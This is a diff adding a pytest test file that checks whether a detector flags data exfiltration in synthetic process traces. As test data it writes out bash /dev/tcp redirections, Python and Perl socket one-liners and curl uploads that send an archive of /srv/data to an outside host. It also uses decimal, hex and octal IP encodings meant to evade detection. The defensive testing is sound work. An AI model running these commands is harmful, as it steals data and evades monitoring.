@@ -1,0 +1,100 @@
+"""Class 11 of issue 11: the designed-in weak spots, closed as far as the telemetry allows. Each
+is played after a real-looking archive, in Tetragon and at least one other format, through
+`detect`, and must reach medium or above (high where an upload tool names the archive)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.adversarial.trace import FORMATS, PUBLIC, Trace, detect, exfil
+
+ALL = (*FORMATS, "auditd")
+
+
+def staged() -> Trace:
+    trace = Trace()
+    tar = trace.run(0, "tar", "czf", "/tmp/a.tgz", "/srv/data")
+    trace.write_file(0.5, tar, "/tmp/a.tgz")
+    return trace
+
+
+def severity(capsys: pytest.CaptureFixture[str], path: Path, only_exfil: bool = True) -> int:
+    """The highest severity of the findings (exfiltration ones only, by default)."""
+    alerts = detect(capsys, str(path))
+    alerts = exfil(alerts) if only_exfil else alerts
+    assert alerts, "no finding"
+    return max(int(a["severity_id"]) for a in alerts)  # type: ignore[call-overload]
+
+
+@pytest.mark.parametrize("fmt", ALL)
+def test_an_upload_sixteen_minutes_later_that_names_the_archive(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
+) -> None:
+    trace = staged()
+    curl = trace.run(16 * 60, "curl", "-T", "/tmp/a.tgz", f"https://{PUBLIC}/")
+    trace.send(16 * 60 + 0.2, curl, PUBLIC, 5_000_000)
+    assert severity(capsys, trace.write(tmp_path, fmt)) >= 4
+
+
+@pytest.mark.parametrize("fmt", ALL)
+@pytest.mark.parametrize(
+    ("argv", "least"),
+    [
+        (("/bin/bash", "-c", f"cat /tmp/a.tgz > /dev/tcp/{PUBLIC}/443"), 4),
+        (("/bin/bash", "-c", f"exec 3<>/dev/tcp/{PUBLIC}/443; cat /tmp/a.tgz >&3"), 4),
+        (
+            (
+                "/usr/bin/python3",
+                "-c",
+                f"import socket;s=socket.create_connection(('{PUBLIC}',443));"
+                "s.sendfile(open('/tmp/a.tgz','rb'))",
+            ),
+            4,
+        ),
+        (
+            (
+                "/usr/bin/perl",
+                "-MIO::Socket",
+                "-e",
+                f'$s=IO::Socket::INET->new(PeerAddr=>"{PUBLIC}:443");print $s `cat /tmp/a.tgz`',
+            ),
+            4,
+        ),
+    ],
+    ids=["dev-tcp", "dev-tcp-fd", "python-socket", "perl-socket"],
+)
+def test_senders_that_are_not_upload_tools(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, argv: tuple[str, ...], least: int
+) -> None:
+    trace = staged()
+    sender = trace.run(30, *argv)
+    trace.send(30.2, sender, PUBLIC, 5_000_000)
+    assert severity(capsys, trace.write(tmp_path, fmt)) >= least
+
+
+@pytest.mark.parametrize("fmt", ALL)
+@pytest.mark.parametrize(
+    ("host", "least"),
+    # inet_aton forms are addresses to curl: the outside. A short name could resolve anywhere
+    # (/etc/hosts): without connection telemetry it is unverified, so medium, not low.
+    [("3405803853", 4), ("0xcb00714d", 4), ("0313.0.0161.0115", 4), ("drop", 3)],
+    ids=["decimal", "hex", "octal", "dotless"],
+)
+def test_odd_hosts_in_a_url_without_network_telemetry(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, host: str, least: int
+) -> None:
+    trace = staged()
+    trace.run(30, "curl", "-T", "/tmp/a.tgz", f"http://{host}/")  # no connection records
+    assert severity(capsys, trace.write(tmp_path, fmt), only_exfil=host != "drop") >= least
+
+
+@pytest.mark.parametrize("fmt", ALL)
+def test_curl_reading_its_options_from_a_file_without_network_telemetry(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
+) -> None:
+    # The config file names the file and the destination; the telemetry shows neither.
+    trace = staged()
+    trace.run(30, "curl", "-K", "/tmp/.c")
+    assert severity(capsys, trace.write(tmp_path, fmt)) >= 3
